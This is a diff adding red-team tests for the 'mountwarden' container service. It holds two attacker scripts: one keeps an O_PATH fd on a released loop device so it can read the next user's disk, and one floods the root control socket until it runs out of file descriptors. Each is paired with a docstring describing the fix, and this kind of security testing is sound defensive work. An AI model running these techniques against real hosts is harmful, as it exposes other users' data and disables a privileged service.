@@ -1,0 +1,214 @@
+"""Sixth red-team pass: ordinary host users talking to `serve` as root (issue 11).
+
+The attacker is an ordinary host account: it runs `mountwarden run` (its container's root is
+itself), talks to the control socket directly, and keeps processes of its own outside the
+container. Each hole found is a test that asserts the safe behaviour and is marked xfail
+(strict) until fixed, its docstring saying what is wrong and the fix; attacks that failed stay
+as guards.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import pwd
+import socket
+import subprocess
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+import oci
+import pytest
+from conftest import write_policy
+from test_unprivileged import _as_user, ordinary_user, place  # noqa: F401 - fixtures
+
+# The attacker's process outside its container: it reaches the pool's node of its own bound
+# device through /proc/<pid>/root (its own processes: it owns their user namespace) and keeps
+# an O_PATH fd on it, which opens no device and holds nothing the pool can see.
+LURKER = r"""
+import os, stat, sys, time
+chat = sys.argv[1]
+def wait(name):
+    while not os.path.exists(os.path.join(chat, name)):
+        time.sleep(0.05)
+def say(name, text):
+    with open(os.path.join(chat, name + ".tmp"), "w") as f:
+        f.write(text)
+    os.rename(os.path.join(chat, name + ".tmp"), os.path.join(chat, name))
+kept = -1
+for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
+    try:
+        fd = os.open(f"/proc/{pid}/root/dev/.mountwarden/loop0", os.O_PATH)
+    except OSError:
+        continue
+    st = os.fstat(fd)
+    if stat.S_ISBLK(st.st_mode) and os.major(st.st_rdev) == 7:
+        kept = fd
+        break
+    os.close(fd)
+if kept < 0:
+    say("opened", "none")
+    sys.exit(0)
+say("opened", str(os.minor(os.fstat(kept).st_rdev)))
+wait("reused")
+try:
+    dev = os.open(f"/proc/self/fd/{kept}", os.O_RDONLY)
+    data = os.pread(dev, 1 << 20, 0)
+    say("result", "read " + ("SECRET" if b"TOPSECRET-rt6" in data else "other"))
+except OSError as exc:
+    say("result", f"denied {exc.errno}")
+"""
+
+
+def _wait(check: Callable[[], bool], what: str, timeout: float = 30) -> None:
+    deadline = time.monotonic() + timeout
+    while not check():
+        assert time.monotonic() < deadline, f"timed out waiting for {what}"
+        time.sleep(0.05)
+
+
+def _user_popen(user: pwd.struct_passwd, *argv: str) -> subprocess.Popen[str]:
+    inner = " ".join(f"'{a}'" for a in argv)
+    cmd = ["su", "-s", "/bin/sh", user.pw_name, "-c", f"cd / && exec {inner}"]
+    return subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, stdin=subprocess.DEVNULL)
+
+
+def _bound(minor: int) -> bool:
+    return os.path.exists(f"/sys/block/loop{minor}/loop/backing_file")
+
+
+@pytest.mark.xfail(strict=True, reason="an ordinary user reopens a released pool node from outside its device cgroup")
+def test_a_released_loop_device_is_not_the_users_to_reopen(
+    ordinary_user: pwd.struct_passwd, place: Path, tmp_path: Path  # noqa: F811 - fixtures
+) -> None:
+    """Hole: the pool's nodes live on a host tmpfs without nodev (adopted.py) whose only wall is
+    the container's device cgroup. An ordinary user owns its container's user namespace, so a
+    process of its own in any cgroup (its login session allows every device) walks
+    /proc/<pid>/root/dev/.mountwarden/loop0 and keeps an O_PATH fd on the node of a device it
+    bound. O_PATH opens no device: the pool sees no holder, LOOP_CLR_FD retires the device,
+    autoclear detaches it, the quota comes back and the host gives the number to the next
+    user. Reopening /proc/self/fd/N then opens that user's disk (read, and write: 0660, ours).
+
+    Fix: a host loop device number that a pool of an ordinary user's container has shown is
+    never handed back to the host: on release the pool rebinds it to an empty memfd and keeps
+    it (in that uid's quota) for later binds of the same uid only; or such a pool gets no
+    device nodes on a mount the user can reach outside the device cgroup."""
+    uid, gid = ordinary_user.pw_uid, ordinary_user.pw_gid
+    chat = place / "chat"
+    chat.mkdir(mode=0o755)
+    os.chown(chat, uid, gid)
+    (place / "lurk.py").write_text(LURKER)
+    secret = tmp_path / "secret.img"
+    secret.write_bytes(b"TOPSECRET-rt6 " * (1 << 16))
+    rules = [{"name": "user-ext4", "containers": {"host_uid": [uid]},
+              "match": {"source": f"{place}/*.ext4", "target": "/**"}, "action": "kernel"}]  # fmt: skip
+    policy = write_policy(tmp_path / "users.yaml", rules)
+    script = (
+        f"losetup /dev/loop0 {place}/data.ext4 && touch {chat}/bound; "
+        f"while [ ! -e {chat}/clear ]; do sleep 0.05; done; losetup -d /dev/loop0; touch {chat}/cleared; "
+        f"while [ ! -e {chat}/end ]; do sleep 0.05; done"
+    )
+    minor = -1
+    with oci.serving(tmp_path, policy, control=place / "control.sock"):
+        run = _user_popen(ordinary_user, *oci.mountwarden_argv(), "run", "--name", "rt6-reuse", "--control-socket",
+                          str(place / "control.sock"), "--", "/bin/sh", "-c", script)  # fmt: skip
+        lurker = None
+        try:
+            _wait(lambda: (chat / "bound").exists() or run.poll() is not None, "the container's losetup")
+            assert (chat / "bound").exists(), run.communicate()
+            lurker = _user_popen(ordinary_user, "/usr/bin/python3", str(place / "lurk.py"), str(chat))
+            _wait(lambda: (chat / "opened").exists(), "the lurker's O_PATH fd")
+            opened = (chat / "opened").read_text()
+            assert opened != "none", "the user reached no pool node from outside its container"
+            minor = int(opened)
+            (chat / "clear").touch()
+            _wait(lambda: (chat / "cleared").exists(), "LOOP_CLR_FD in the container")
+            _wait(lambda: not _bound(minor), f"loop{minor} detached")
+            # Someone else (here the host) binds the free device to a disk of its own.
+            subprocess.run(["losetup", f"/dev/loop{minor}", str(secret)], check=True)
+            (chat / "reused").touch()
+            _wait(lambda: (chat / "result").exists(), "the lurker's reopen")
+            result = (chat / "result").read_text()
+        finally:
+            (chat / "end").touch()
+            (chat / "reused").touch()
+            if lurker is not None:
+                lurker.wait(timeout=30)
+            run.wait(timeout=60)
+            if minor >= 0 and _bound(minor):
+                subprocess.run(["losetup", "-d", f"/dev/loop{minor}"], check=False)
+    assert result.startswith("denied"), f"the user's process outside the container: {result}"
+
+
+# The attacker's control client: `count` connections, each one request that is JSON but not an
+# object, closed at once. It keeps no fd of its own open.
+FLOOD = r"""
+import signal, socket, sys
+def late(signum, frame):
+    raise TimeoutError
+signal.signal(signal.SIGALRM, late)
+for n in range(int(sys.argv[2])):
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
+    signal.alarm(3)
+    try:
+        s.connect(sys.argv[1])  # blocks while serve's backlog is full
+        s.send(b"[]")
+    except OSError:
+        break  # serve no longer accepts
+    finally:
+        signal.alarm(0)
+        s.close()
+print("sent", n)
+"""
+
+
+def _ask(path: Path, request: bytes, timeout: float = 5) -> dict[str, object] | None:
+    """One request on the control socket; serve's answer, or None if none came in time."""
+    with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as s:
+        s.settimeout(timeout)
+        try:
+            s.connect(str(path))  # EAGAIN at once when serve's backlog is full
+            s.send(request)
+            answer = s.recv(4096)
+        except (BlockingIOError, TimeoutError):
+            return None
+    return json.loads(answer) if answer else None
+
+
+@pytest.mark.xfail(strict=True, reason="a request that is not a JSON object leaks serve's fds and ends the socket")
+def test_requests_that_are_not_objects_do_not_exhaust_serve(
+    ordinary_user: pwd.struct_passwd, place: Path, tmp_path: Path  # noqa: F811 - fixtures
+) -> None:
+    """Hole: ControlSource._read catches KernelError, ValueError, TypeError and KeyError only.
+    `[]` (AttributeError on .get), a nesting too deep (RecursionError) or an init_pid of 1e999
+    (OverflowError) escape to the loop, which logs, stops watching the connection and never
+    closes it (nor the fd sent with it). An ordinary user's loop of connect/send/close thus
+    fills serve's fd table (systemd's default soft limit: 1024); accept() then fails EMFILE,
+    the loop stops watching the control socket itself, and no user's `run` is answered again
+    (the OCI and LXC sockets die the same way on their next connection).
+
+    Fix: in `_read`, catch Exception around `_adopt` (answer, close the fds, `_drop` the peer
+    on anything but a well-formed request), reject a non-dict request with EINVAL; in every
+    source's `_accept`, treat OSError (EMFILE/ENFILE) as "try later" (log, keep the socket,
+    back off) instead of letting it reach the loop; cap connections per uid."""
+    policy = write_policy(tmp_path / "none.yaml", [])
+    sock = place / "control.sock"
+    (place / "flood.py").write_text(FLOOD)
+    with oci.serving(tmp_path, policy, control=sock) as serve:
+        subprocess.run(["prlimit", f"--pid={serve.proc.pid}", "--nofile=1024:1024"], check=True)
+        before = len(os.listdir(f"/proc/{serve.proc.pid}/fd"))
+        assert _refused(_ask(sock, b'{"op": "adopt"}'))
+        flood = _as_user(ordinary_user, "/usr/bin/python3", str(place / "flood.py"), str(sock), "1100")
+        assert flood.stdout.startswith("sent"), flood.stderr
+        time.sleep(1)
+        after = len(os.listdir(f"/proc/{serve.proc.pid}/fd"))
+        answer = _ask(sock, b'{"op": "adopt"}')
+    assert _refused(answer), f"{flood.stdout}; serve's fds: {before} before, {after} after; answer {answer}"
+    assert after <= before + 8, flood.stdout
+
+
+def _refused(answer: dict[str, object] | None) -> bool:
+    return answer is not None and answer["ok"] is False and "with the listener" in str(answer["error"])
+
+
